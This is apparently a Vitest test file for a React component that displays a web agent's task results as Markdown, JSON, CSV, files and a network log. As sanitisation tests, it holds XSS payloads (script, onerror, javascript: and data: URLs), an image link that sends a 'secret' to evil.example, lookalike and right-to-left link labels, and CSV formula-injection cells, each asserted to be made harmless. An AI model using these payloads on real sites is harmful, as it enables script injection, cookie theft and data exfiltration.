import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test, vi } from 'vitest';
import { TaskResult } from 'webrun-react';
import type { AnyRun } from 'webrun-react';
import { toTraits } from '../../src/core/service.js';
import { Markdown } from '../../src/components/TaskResult/Markdown.js';
import { formatOf } from '../../src/components/format.js';
import { toCsv } from '../../src/components/TaskResult/csv.js';
import { parseCsv } from '../../src/core/csv.js';
import {
  completed,
  csv,
  failed,
  files,
  guardrail,
  idle,
  lamps,
  lost,
  markdown,
  network,
  queued,
  refused,
  running,
  submitting,
  terminated,
} from '../../stories/states.js';
import { result } from '../../src/messages/en/result.js';
import { aboutLinear, growthOf } from '../growth.js';

const words = { t: result, service: 'WebRun', traits: toTraits(), format: formatOf('en', undefined) };

const text = (message: string): AnyRun => completed({ message });
const asCsv = (message: string): AnyRun =>
  completed({ message }, { input: { taskDetails: 'x', outputType: 'structured_csv' } });
const panel = (): HTMLElement => screen.getByRole('tabpanel');
const foot = (): string => document.querySelector('.webrun-result-footer')?.textContent ?? '';
/** The answer's renderer is loaded when it is first needed. */
const shown = (selector: string): Promise<Element> =>
  vi.waitFor(() => {
    const found = panel().querySelector(selector);
    if (!found) throw new Error(`${selector} is not shown: ${panel().innerHTML}`);
    return found;
  });

test.each<readonly [unknown, string]>([
  ['Twelve lamps.', 'Twelve lamps.'],
  [12, '12'],
  [false, 'false'],
])('an answer that came as data only, %j, is shown', async (output, said) => {
  render(<TaskResult run={completed({ message: null, output })} />);
  expect(await shown('.webrun-prose')).toHaveTextContent(said);
  expect(foot()).toContain('Text');
});

test.each(['structured_json', 'structured_csv'] as const)(
  'an empty answer, asked for as %s, is said to be empty and not shown as received',
  (outputType) => {
    const outputError = new Error('it is empty');
    const input = { taskDetails: 'x', outputType };
    const { rerender } = render(<TaskResult run={completed({ message: ' ', outputError }, { input })} />);
    expect(within(panel()).getByText('No text in the answer')).toBeInTheDocument();
    expect(screen.queryByRole('button', { name: 'Download' })).toBeNull();
    rerender(<TaskResult run={completed({ message: null, output: null }, { input })} />);
    expect(within(panel()).getByText('No text in the answer')).toBeInTheDocument();
  },
);

describe('Markdown', () => {
  test('becomes elements', async () => {
    render(<TaskResult run={text(markdown)} />);
    await shown('.webrun-prose');
    expect(screen.getByRole('heading', { name: 'Three desk lamps under $50', level: 3 })).toBeInTheDocument();
    expect(screen.getAllByRole('listitem')).toHaveLength(3);
    expect(screen.getByText('$4.90').tagName).toBe('CODE');
    const link = screen.getByRole('link', { name: 'shop.example/p/arc-2' });
    expect(link).toHaveAttribute('href', 'https://shop.example/p/arc-2');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
    expect(foot()).toBe('Text23 sec, $0.0187');
  });

  test.each([
    [
      '**a** and __b__',
      '<strong class="webrun-strong">a</strong> and <strong class="webrun-strong">b</strong>',
    ],
    ['*a* _b_ ~~c~~ `d`', '<em>a</em> <em>b</em> <s>c</s> <code>d</code>'],
    ['snake_case_name and 2 * 3 * 4', 'snake_case_name and 2 * 3 * 4'],
    [String.raw`\*not\* emphasis`, '*not* emphasis'],
    ['**a `b` c**', '<strong class="webrun-strong">a <code>b</code> c</strong>'],
    ['line one\nline two', 'line one line two'],
    ['line one  \nline two', 'line one<br>line two'],
  ])('%s → %s', async (source, html) => {
    render(<TaskResult run={text(source)} />);
    expect((await shown('.webrun-prose p')).innerHTML).toBe(html);
  });

  test.each([
    ['- a\n- b\n  - c', '<ul dir="auto"><li>a</li><li>b<ul dir="auto"><li>c</li></ul></li></ul>'],
    ['3. a\n4. b', '<ol dir="auto" start="3"><li>a</li><li>b</li></ol>'],
    ['> a\n> b', '<blockquote><p>a b</p></blockquote>'],
    ['a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
    ['```js\n**a**\n```', '<pre class="webrun-code" tabindex="0">**a**</pre>'],
    ['###### a', '<h6>a</h6>'],
  ])('%j is laid out', async (source, html) => {
    render(<TaskResult run={text(source)} />);
    expect((await shown('.webrun-prose')).innerHTML).toBe(html);
  });

  test('a table becomes a table', async () => {
    render(<TaskResult run={text('| a | b |\n|---|---:|\n| x | **1** |')} />);
    await shown('table');
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual(['a', 'b']);
    expect(screen.getByRole('cell', { name: '1' })).toBeInTheDocument();
  });

  test('an escaped bar belongs to its cell', async () => {
    render(
      <TaskResult
        run={text(String.raw`| a | b |
|---|---|
| x \| y | z \||`)}
      />,
    );
    await shown('table');
    expect(screen.getAllByRole('cell').map((cell) => cell.textContent)).toEqual(['x | y', 'z |']);
  });

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '![x](https://evil.example/?q=secret)',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](http://evil.example)',
    '[x](https://user:pass@evil.example)',
    '<iframe src="//evil.example"></iframe>',
    '[x](//evil.example)',
    '[x](/relative)',
  ])('%s does nothing', async (source) => {
    render(<TaskResult run={text(source)} />);
    await shown('.webrun-prose');
    expect(panel().querySelectorAll('img, script, iframe, a, object, embed, [src], [onerror]')).toHaveLength(
      0,
    );
  });

  test.each([
    ['bank.example', 'evil.example'],
    ['microsoft.com', 't.co'], // which has the other in it
    ['evil.example.bank.example', 'evil.example'],
    ['bank\u200B.example', 'evil.example'],
    ['bank.\u00ADexample', 'evil.example'],
    ['bank\uFF0Eexample', 'evil.example'],
    ['bank.\u0435xample', 'evil.example'], // the first letter is Cyrillic
  ])('a label that names another host (%s) does not hide that it leads to %s', async (label, host) => {
    render(<TaskResult run={text(`[${label}](https://${host}/login)`)} />);
    expect((await shown('.webrun-prose p')).textContent).toBe(`${label} (${host})`);
  });

  test.each([
    'shop.example',
    'Shop.example/lamps?q=a.b',
    'https://shop.example/',
    'At shop.example: now.',
    'Shop.example.',
    'Arc 2',
    'e.g. this',
  ])('a label that names its own host or none (%s) is left alone', async (label) => {
    render(<TaskResult run={text(`[${label}](https://shop.example/p/arc-2)`)} />);
    expect((await shown('.webrun-prose p')).textContent).toBe(label);
  });

  test('a label that is written backwards turns nothing around beside it', async () => {
    render(<TaskResult run={text('[\u202Emoc.lapyap](https://evil.example)')} />);
    const prose = await shown('.webrun-prose p');
    expect([...prose.querySelectorAll('bdi')].map((each) => each.textContent)).toEqual([
      '\u202Emoc.lapyap',
      'evil.example',
    ]);
  });

  test('a bare address is a link without the full stop after it', async () => {
    render(<TaskResult run={text('See https://shop.example/a_(b), or (https://shop.example/c).')} />);
    await shown('a');
    expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
      'https://shop.example/a_(b',
      'https://shop.example/c',
    ]);
    expect(panel()).toHaveTextContent('See shop.example/a_(b), or (shop.example/c).');
  });

  /** How much longer four times as much takes to become elements. */
  const growth = (toText: (size: number) => string): number =>
    growthOf(
      (size) => renderToStaticMarkup(<Markdown view={{ text: toText(size) }} words={words} />),
      25_000,
    );

  test.each(['*', '_', '[', '**', '`', '![', '<', '](', '> ', '- ', '|', '(', '\\', 'https://', '~~a'])(
    'four times as much of %s takes about four times as long',
    (piece) => expect(growth((size) => piece.repeat(size / piece.length))).toBeLessThan(aboutLinear),
  );

  test.each<[string, (size: number) => string]>([
    ['a title before spaces', (size) => `# a${' '.repeat(size)}x`],
    ['a title of hashes', (size) => `# ${'#'.repeat(size)}x`],
    ['an item before a line separator', (size) => `- ${' '.repeat(size)}x\u2028y`],
    ['spaces below a row', (size) => `a|b\n${' '.repeat(size)}x`],
  ])('%s, four times as long, takes about four times as long', (_title, toText) =>
    expect(growth(toText)).toBeLessThan(aboutLinear),
  );

  test('a title loses the hashes that close it, not those of its words', async () => {
    render(<TaskResult run={text('# Jobs in C# ##\n\n## F#')} />);
    await shown('.webrun-prose');
    expect(screen.getAllByRole('heading').map((title) => title.textContent)).toEqual(
      expect.arrayContaining(['Jobs in C#', 'F#']),
    );
  });

  test('5 MB are cut on screen, and said to be', async () => {
    render(<TaskResult run={text('word '.repeat(1_000_000))} />);
    expect((await shown('pre code')).textContent).toHaveLength(100_000);
    expect(foot()).toContain('First 100,000 of 5,000,000 characters. Copy has all of them.');
  });
});

describe('JSON', () => {
  test('is shown with its keys set apart, small objects on one line', async () => {
    render(<TaskResult run={completed({ message: JSON.stringify(lamps), output: lamps })} />);
    const code = await shown('pre code');
    expect(code.textContent).toContain('"cheapest": "Arc 2",\n');
    expect(code.textContent).toContain('    { "name": "Fold", "price": 39.5, "inStock": true },\n');
    expect(JSON.parse(code.textContent ?? '')).toEqual(lamps);
  });

  test('what could not be read is shown as received', async () => {
    const message = '{ "cheapest": "Arc 2", ';
    const run = completed(
      { message, outputError: new SyntaxError('x') },
      { input: { taskDetails: 'x', outputType: 'structured_json' } },
    );
    render(<TaskResult run={run} />);
    expect((await shown('pre code')).textContent).toBe(message);
    expect(foot()).toContain('Not valid JSON, shown as received');
  });

  test('JSON that is not what a schema wants is not called invalid', async () => {
    const message = '{ "cheapest": "Arc 2" }';
    const run = completed(
      { message, outputError: new Error('x') },
      { input: { taskDetails: 'x', outputType: 'structured_json' } },
    );
    render(<TaskResult run={run} />);
    expect((await shown('pre code')).textContent).toBe(message);
    expect(foot()).toContain('Not in the expected form, shown as received');
  });

  test('an object 1,000 deep is no danger', async () => {
    let output: unknown = 1;
    for (let depth = 0; depth < 1_000; depth++) output = { a: output };
    render(<TaskResult run={completed({ message: '', output })} />);
    expect((await shown('pre code')).textContent).toContain('…');
  });
});

describe('CSV', () => {
  test('is a table, numbers at the end of their columns', async () => {
    render(<TaskResult run={asCsv(csv)} />);
    await shown('table');
    expect(screen.getAllByRole('columnheader').map((cell) => cell.textContent)).toEqual([
      'Name',
      'Price, USD',
      'Rating',
      'Reviews',
      'Delivery',
    ]);
    expect(screen.getByRole('cell', { name: '1,204' })).toHaveAttribute('data-numeric');
    expect(screen.getByRole('cell', { name: '3 days' })).not.toHaveAttribute('data-numeric');
    expect(foot()).toContain('CSV, 4 rows, 5 columns');
  });

  test.each([
    ['an unquoted thousands separator', 'name,price\nArc 2,1,204'],
    ['a quote that does not close', 'name,price\n"Arc 2,32'],
    ['a single column', 'name\nArc 2'],
    ['prose', 'I found no table.'],
  ])('%s: shown as received, never in the wrong column', async (_, message) => {
    render(<TaskResult run={asCsv(message)} />);
    expect((await shown('pre code')).textContent).toBe(message);
    expect(foot()).toContain('Not a regular table, shown as received');
  });

  test.each([
    ['a,b\n1,2', [['1', '2']]],
    ['a;b\r\n1;"2;3"\r\n', [['1', '2;3']]],
    ['a\tb\n"x ""y""\nz"\t2', [['x "y"\nz', '2']]],
    ['\uFEFFa,b\n,', [['', '']]],
    ['```csv\na,b\n1,2\n```', [['1', '2']]],
  ])('%j is read', (source, rows) => {
    expect(parseCsv(source)?.rows).toEqual(rows);
  });

  test('cells that begin with a formula’s mark are made safe when they are saved, or not where an app says so', async () => {
    const cells = ['=1+1', '+1', '-2', '@sum', 'a "b"', 'x;y', 'x;=1', 'x\n+1'];
    const table = { head: ['=a', 'b'], rows: cells.map((cell) => [cell, '1']) };
    const lines = (escapeFormulas: boolean): string[] => toCsv(table, { escapeFormulas }).split('\r\n');
    expect(lines(true)).toEqual([
      "\uFEFF'=a,b",
      "'=1+1,1",
      "'+1,1",
      "'-2,1",
      "'@sum,1",
      '"a ""b""",1',
      '"x;y",1',
      // Another spreadsheet splits cells at a semicolon, and at a line break that is not inside of its own quotes.
      `"x;'=1",1`,
      `"x\n'+1",1`,
      '',
    ]);
    expect(lines(false).slice(0, 3)).toEqual(['\uFEFF=a,b', '=1+1,1', '+1,1']);
    const hidden = { head: ['a', 'b', 'c', 'd'], rows: [['\t=1', '\r=1', '\n=1', '＝1']] };
    expect(toCsv(hidden, { escapeFormulas: true })).toContain("\"'\t'=1\",\"'\r'=1\",\"'\n'=1\",'＝1");
  });

  test.each<[string, AnyRun, string, string, string]>([
    [
      'a table',
      asCsv('Sure:\n```csv\na,b\n=1,2\n```'),
      'answer.csv',
      'text/csv;charset=utf-8',
      "\uFEFFa,b\r\n'=1,2\r\n",
    ],
    [
      'JSON',
      completed({ message: '{"a":1}', output: { a: 1 } }),
      'answer.json',
      'application/json;charset=utf-8',
      '{\n  "a": 1\n}',
    ],
    ['text', text('# Hello'), 'answer.md', 'text/markdown;charset=utf-8', '# Hello'],
    ['what is no table', asCsv('none'), 'answer.txt', 'text/plain;charset=utf-8', 'none'],
  ])('"Download" saves %s as it is shown', async (_, run, filename, type, content) => {
    const user = userEvent.setup();
    const saved: [string, Blob][] = [];
    const blobs = new Map<string, Blob>();
    const before = { ...URL };
    Object.assign(URL, {
      createObjectURL: (blob: Blob) => (blobs.set('blob:1', blob), 'blob:1'),
      revokeObjectURL: () => undefined,
    });
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function save(
      this: HTMLAnchorElement,
    ) {
      saved.push([this.download, blobs.get(this.href)!]);
    });
    try {
      render(<TaskResult run={run} />);
      await user.click(screen.getByRole('button', { name: 'Download' }));
      expect(saved.map(([name, blob]) => [name, blob.type])).toEqual([[filename, type]]);
      const bytes = await new Promise<ArrayBuffer>((resolve) => {
        const reader = new FileReader();
        reader.addEventListener('load', () => resolve(reader.result as ArrayBuffer));
        reader.readAsArrayBuffer(saved[0]![1]);
      });
      expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).toBe(content);
    } finally {
      click.mockRestore();
      Object.assign(URL, before);
    }
  });
});

describe('what a task had brought before it failed or was stopped', () => {
  const partial = { answer: 'Two of **three** lamps', files, network };

  test.each<[string, AnyRun, string]>([
    ['failed', failed('The page is gone.', null, { partial }), 'The task failed. Partial results are shown.'],
    ['stopped', terminated({ partial }), 'The task was stopped. Partial results are shown.'],
    [
      'not answered in time',
      terminated({ partial, isUnanswered: true }),
      'Its question was not answered in time. Partial results are shown.',
    ],
  ])('%s: is shown, and that it is not the answer', async (_, run, notice) => {
    const user = userEvent.setup();
    render(<TaskResult run={run} />);
    expect(screen.getByText(notice)).toBeInTheDocument();
    expect((await shown('.webrun-prose strong')).textContent).toBe('three');
    await user.click(screen.getByRole('tab', { name: `Files ${files.length}` }));
    expect(screen.getByText('lamps-under-50.csv')).toBeInTheDocument();
    await user.click(screen.getByRole('tab', { name: 'Network 5' }));
    expect(within(panel()).getByText('javascript:alert(document.cookie)')).toBeInTheDocument();
  });

  test('says why it failed where nothing else on the page does', () => {
    render(<TaskResult run={failed('The page is gone.', null, { partial })} />);
    expect(screen.getByText('The page is gone.')).toBeInTheDocument();
  });

  test.each(['', ' \n', null])('says that it failed where the server gives no reason: %j', (message) => {
    render(<TaskResult run={failed(message, null)} />);
    expect(panel()).toHaveTextContent(result.failedHelp);
  });

  test('leads to the other tabs where it has no answer', () => {
    render(<TaskResult run={failed('The page is gone.', null, { partial: { files } })} />);
    expect(panel()).toHaveTextContent('Partial results are in the other tabs.');
  });

  test('says how many files the reply had beyond those it lists', () => {
    const run = completed({ files, filesOmitted: 500 });
    render(<TaskResult run={run} defaultTab="files" />);
    expect(foot()).toContain(`First ${files.length} of ${files.length + 500} files.`);
  });
});

describe('what was too long to be stored', () => {
  const truncated = (run: AnyRun): AnyRun => ({ ...run, task: { ...run.task, isTruncated: true } }) as AnyRun;

  test.each<[string, AnyRun]>([
    ['completed', truncated(completed({ message: null, files, network: [] }))],
    ['failed', truncated(failed('The page is gone.', null, { partial: { files } }))],
    ['stopped', truncated(terminated({ partial: { files } }))],
  ])('is not said to be missing at the server, and what was stored is shown: %s', async (_, run) => {
    const user = userEvent.setup();
    render(<TaskResult run={run} />);
    const notice = 'Part of the result was too long to store.';
    expect(panel()).toHaveTextContent(`No answer${notice}`);
    await user.click(screen.getByRole('tab', { name: /^Network/ }));
    expect(panel()).toHaveTextContent(`No addresses${notice}`);
    await user.click(screen.getByRole('tab', { name: `Files ${files.length}` }));
    expect(screen.getByText('lamps-under-50.csv')).toBeInTheDocument();
  });
});

describe('JSON that is longer than a glance', () => {
  const value = {
    shops: Array.from({ length: 12 }, (_, n) => ({
      name: `Shop ${n}`,
      lamps: [{ price: n, colour: 'a rather long name of a colour that needs a line' }],
    })),
  };
  const show = async (): Promise<Element> => {
    render(<TaskResult run={completed({ message: JSON.stringify(value), output: value })} />);
    return shown('pre code');
  };

  test('folds and unfolds', async () => {
    const user = userEvent.setup();
    const code = await show();
    expect(JSON.parse(code.textContent ?? '')).toEqual(value);
    await user.click(screen.getByRole('button', { name: '"shops", 12 entries' }));
    expect(code.textContent).toBe('{\n  "shops": [ 12 ]\n}\n');
    await user.click(screen.getByRole('button', { name: '"shops", 12 entries', expanded: false }));
    expect(JSON.parse(code.textContent ?? '')).toEqual(value);
    await user.click(screen.getByRole('button', { name: 'Fold all' }));
    expect(code.textContent).toBe('{\n  "shops": [ 12 ]\n}\n');
    await user.click(screen.getByRole('button', { name: 'Unfold all' }));
    expect(JSON.parse(code.textContent ?? '')).toEqual(value);
  });

  test('is searched, also where it is folded', async () => {
    const user = userEvent.setup();
    const code = await show();
    await user.click(screen.getByRole('button', { name: 'Fold all' }));
    await user.type(screen.getByRole('searchbox', { name: 'Search in the JSON' }), 'shop 1');
    const current = (): string => code.querySelector('[data-current]')?.textContent?.trim() ?? '';
    expect(screen.getByText('1 of 3')).toBeInTheDocument();
    expect(current()).toBe('"name": "Shop 1",');
    await user.keyboard('{Enter}');
    expect(current()).toBe('"name": "Shop 10",');
    await user.keyboard('{Shift>}{Enter}{/Shift}{Shift>}{Enter}{/Shift}');
    expect(current()).toBe('"name": "Shop 11",');
    await user.type(screen.getByRole('searchbox'), 'xyz');
    expect(screen.getByText('No match')).toBeInTheDocument();
  });
});

test('files have links where they may be followed, and say so where not', async () => {
  const user = userEvent.setup();
  render(
    <TaskResult
      run={completed({ files: [...files, { ...files[2]!, filename: 'x.exe', url: 'javascript:alert(1)' }] })}
    />,
  );
  await user.click(screen.getByRole('tab', { name: 'Files 4' }));
  const link = screen.getByRole('link', { name: 'Download lamps-under-50.csv' });
  expect(link).toHaveAttribute('href', 'https://blobs.example/a');
  expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  expect(screen.getAllByRole('link')).toHaveLength(2);
  expect(screen.getByRole('button', { name: 'Download x.exe, no safe link' })).toHaveAttribute(
    'aria-disabled',
    'true',
  );
});

test('the network log is text', async () => {
  const user = userEvent.setup();
  render(<TaskResult run={completed({ network })} />);
  await user.click(screen.getByRole('tab', { name: 'Network 5' }));
  expect(within(panel()).getByText('javascript:alert(document.cookie)')).toBeInTheDocument();
  expect(within(panel()).getByRole('cell', { name: '0:16' })).toBeInTheDocument();
  expect(screen.queryByRole('link')).toBeNull();
  expect(foot()).toBe('5 addresses');
});

test('the tabs are moved through by arrow keys, Home and End', async () => {
  const user = userEvent.setup();
  render(<TaskResult run={text('Hello')} />);
  await user.tab();
  expect(screen.getByRole('tab', { name: 'Answer' })).toHaveFocus();
  await user.keyboard('{ArrowRight}');
  expect(screen.getByRole('tab', { name: 'Files 0' })).toHaveFocus();
  expect(panel()).toHaveTextContent('No files');
  await user.keyboard('{End}');
  expect(panel()).toHaveTextContent('No addresses');
  await user.keyboard('{ArrowRight}');
  expect(screen.getByRole('tab', { name: 'Answer', selected: true })).toHaveFocus();
});

test('copies the whole answer as it came, and says so', async () => {
  const user = userEvent.setup();
  render(<TaskResult run={text(markdown)} />);
  await shown('.webrun-prose');
  await user.click(screen.getByRole('button', { name: 'Copy' }));
  expect(await screen.findByRole('button', { name: 'Copied' })).toBeInTheDocument();
  expect(await navigator.clipboard.readText()).toBe(markdown);
});

test.each<[string, AnyRun, string, string]>([
  ['idle', idle(), 'No task yet', 'The answer will appear here.'],
  ['queued', queued(), 'No answer yet', 'It appears here as soon as the task is done.'],
  ['submitting', submitting(), 'No answer yet', 'It appears here as soon as the task is done.'],
  ['running', running(), 'No answer yet', 'It appears here as soon as the task is done.'],
  ['guardrail', guardrail('Which?'), 'Waiting for you', 'The task continues when its question is answered.'],
  ['failed', failed('The page did not load.'), 'No answer', 'The page did not load.'],
  ['terminated', terminated(), 'No answer', 'The task was stopped before it had one.'],
  ['refused', refused(402), 'No answer', 'The task was not accepted.'],
  ['lost', lost('cut'), 'No answer', "We don't know whether it produced an answer."],
  [
    'completed without words',
    completed({ message: '' }),
    'No text in the answer',
    'The task is done but returned no text. Files and addresses, if any, are in the other tabs.',
  ],
])('%s: says what is not there, and why', (_, run, title, help) => {
  render(<TaskResult run={run} />);
  expect(within(panel()).getByText(title)).toBeInTheDocument();
  expect(within(panel()).getByText(help)).toBeInTheDocument();
});
